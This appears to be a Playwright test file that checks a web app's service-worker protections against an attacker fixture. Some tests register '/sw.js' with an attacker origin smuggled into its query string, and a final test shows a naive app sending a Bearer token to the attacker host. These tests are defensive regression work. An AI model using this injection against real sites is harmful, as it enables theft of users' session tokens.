import type { Page } from '@playwright/test'

import { status } from '../fixtures/app.ts'
import { expect, runCard, test } from '../fixtures/attack-app.ts'
import { fetchInPage } from '../fixtures/page-calls.ts'

/** Registers the app's own worker in another way, and waits until the browser made up its mind about it. */
async function register(page: Page, script: string, options: RegistrationOptions): Promise<string> {
  return page.evaluate(
    async ([url, how]) => {
      try {
        const registration = await navigator.serviceWorker.register(url, how)
        const worker = registration.installing ?? registration.waiting ?? registration.active
        if (!worker) return 'nothing'
        return await new Promise<string>((resolve) => {
          const look = (): void => {
            if (worker.state !== 'installing') resolve(worker.state)
          }
          worker.addEventListener('statechange', look)
          look()
        })
      } catch (error) {
        return (error as Error).name
      }
    },
    [script, options] as const,
  )
}

const unguarded = { csp: false, workerGuard: false }

test('the attack lab cannot replace the worker, and the session survives it', async ({
  page,
  signIn,
}) => {
  test.slow()
  await signIn(page)
  expect(await runCard(page, 'register-changed-worker')).toMatchObject({ outcome: 'held' })
  await expect(status(page)).toHaveText('signed-in as alice')
})

test('a worker address with a configuration in it configures nothing, also where the server lets it be registered', async ({
  page,
  app,
  signIn,
  startWeak,
  attacker,
}) => {
  const target = await startWeak({ protections: unguarded })
  await signIn(page, 'alice', target.origin)
  const state = await register(page, `/sw.js?api=${attacker.origin}&issuer=${attacker.origin}`, {})
  expect(state, 'it waits for the pages of the real one').toBe('installed')
  await fetchInPage(page, `${attacker.origin}/v1/me`)
  expect(attacker.seen).toHaveLength(1)
  expect(attacker.credentials()).toEqual([])
  expect((await fetchInPage(page, `${app.apiOrigin}/v1/me`)).status).toBe(200)
})

test('another scope, type or cache mode neither installs a second guardian nor ends the session', async ({
  page,
  app,
  signIn,
  startWeak,
}) => {
  const target = await startWeak({ protections: unguarded })
  await signIn(page, 'alice', target.origin)
  expect(await register(page, '/sw.js', { scope: '/auth/' })).toBe('redundant')
  expect(await register(page, '/sw.js', { scope: '/auth/callback' })).toBe('redundant')
  await register(page, '/sw.js', { type: 'module', updateViaCache: 'all' })
  await expect(status(page)).toHaveText('signed-in as alice')
  expect((await fetchInPage(page, `${app.apiOrigin}/v1/me`)).status).toBe(200)
  const scopes = await page.evaluate(async () =>
    (await navigator.serviceWorker.getRegistrations()).map(({ scope, active }) => [
      scope,
      active?.scriptURL,
    ]),
  )
  expect(scopes).toEqual([[`${target.origin}/`, `${target.origin}/sw.js`]])
})

test('bites: a worker that reads its address sends the token to the attacker', async ({
  page,
  startNaive,
  signInNaively,
  attacker,
}) => {
  const naive = await startNaive()
  await signInNaively(page, naive)
  const changed = page.evaluate(() =>
    new Promise((resolve) => {
      navigator.serviceWorker.addEventListener('controllerchange', resolve, { once: true })
    }).then(() => true),
  )
  await register(page, `/sw.js?api=${attacker.origin}`, {})
  await changed
  await fetchInPage(page, `${attacker.origin}/v1/me`)
  expect(attacker.credentials()).toEqual([expect.stringMatching(/^Bearer eyJ/)])
})
